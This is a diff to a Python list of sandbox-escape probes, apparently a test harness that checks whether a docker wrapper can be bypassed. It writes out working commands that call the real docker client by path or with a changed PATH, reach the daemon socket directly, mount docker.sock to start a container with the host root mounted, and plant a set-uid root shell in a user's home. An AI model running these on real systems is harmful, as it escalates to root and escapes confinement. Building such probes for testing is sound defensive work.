@@ -130,8 +130,8 @@ AROUND_PROBES = [
     Probe(
         "aw-full-path",
         AROUND,
-        "the real docker by its full path",
-        f'"$D" exec $V {_EXEC_MARK}',
+        "each real docker client by its full path",
+        f'for d in $DS; do echo "== $d"; "$d" exec $V {_EXEC_MARK}; done',
         "The real binary is still there; calling it by path skips the wrapper.",
         _A_FIX,
         "victim-write",
@@ -139,8 +139,9 @@ AROUND_PROBES = [
     Probe(
         "aw-env-path",
         AROUND,
-        "`env PATH=/usr/bin:/bin docker`",
-        f"env PATH=/usr/bin:/bin docker exec $V {_EXEC_MARK}",
+        "`env PATH=DIR docker` for each directory holding a real client",
+        f'for p in $DDIRS; do echo "== $p"; env PATH="$p:/usr/bin:/bin" docker exec $V '
+        f"{_EXEC_MARK}; done",
         "Any other PATH finds the real docker first.",
         _A_FIX,
         "victim-write",
@@ -195,8 +196,14 @@ AROUND_PROBES = [
         "import http.client, json, os, socket\n"
         "class C(http.client.HTTPConnection):\n"
         "    def connect(self):\n"
-        "        self.sock = socket.socket(socket.AF_UNIX)\n"
-        "        self.sock.connect('/var/run/docker.sock')\n"
+        "        for path in os.environ['SOCKS'].split():\n"
+        "            try:\n"
+        "                self.sock = socket.socket(socket.AF_UNIX)\n"
+        "                self.sock.connect(path)\n"
+        "                return\n"
+        "            except OSError as exc:\n"
+        "                print(path, exc)\n"
+        "        raise OSError('no socket answered')\n"
         "e = os.environ\n"
         "name = 'stagingvm-p-' + e['ID']\n"
         "body = {'Image': e['IMG'], 'Cmd': ['sh', '-c', e['HW']],\n"
@@ -285,9 +292,12 @@ HANDOVER_PROBES = [
     Probe(
         "ho-docker-sock",
         HANDOVER,
-        "mount docker.sock into a container",
-        "dk run --rm -v /var/run/docker.sock:/var/run/docker.sock -v /usr:/usr:ro $IMG "
-        '/usr/bin/docker run --rm -v /:/host $IMG sh -c "$HW"',
+        "mount the daemon's socket into a container",
+        # The real client (and, for a store path, the store it links against) goes in too.
+        'set -- $SOCKS; m="-v /usr:/usr:ro"\n'
+        'case $D in /nix/store/*) m="$m -v /nix/store:/nix/store:ro" ;; esac\n'
+        'dk run --rm -v "$1":/var/run/docker.sock $m -v "$D":/stagingvm-docker:ro $IMG '
+        '/stagingvm-docker -H unix:///var/run/docker.sock run --rm -v /:/host $IMG sh -c "$HW"',
         "A container given the socket starts further containers with any options.",
         _H_FIX,
     ),
@@ -295,7 +305,7 @@ HANDOVER_PROBES = [
         "ho-setuid-home",
         HANDOVER,
         "a set-uid root shell planted in the user's home",
-        "dk run --rm -v ~:/h -v /usr/bin/bash:/hb:ro $IMG sh -c "
+        'dk run --rm -v ~:/h -v "$(readlink -f "$(command -v bash)")":/hb:ro $IMG sh -c '
         '"cp /hb /h/rootbash-$ID && chmod 4755 /h/rootbash-$ID"; '
         'ls -l ~/rootbash-$ID; ~/rootbash-$ID -p -c "echo $N > $RM/$ID"',
         "Mounting only the user's own home still lets root in the container leave a set-uid "
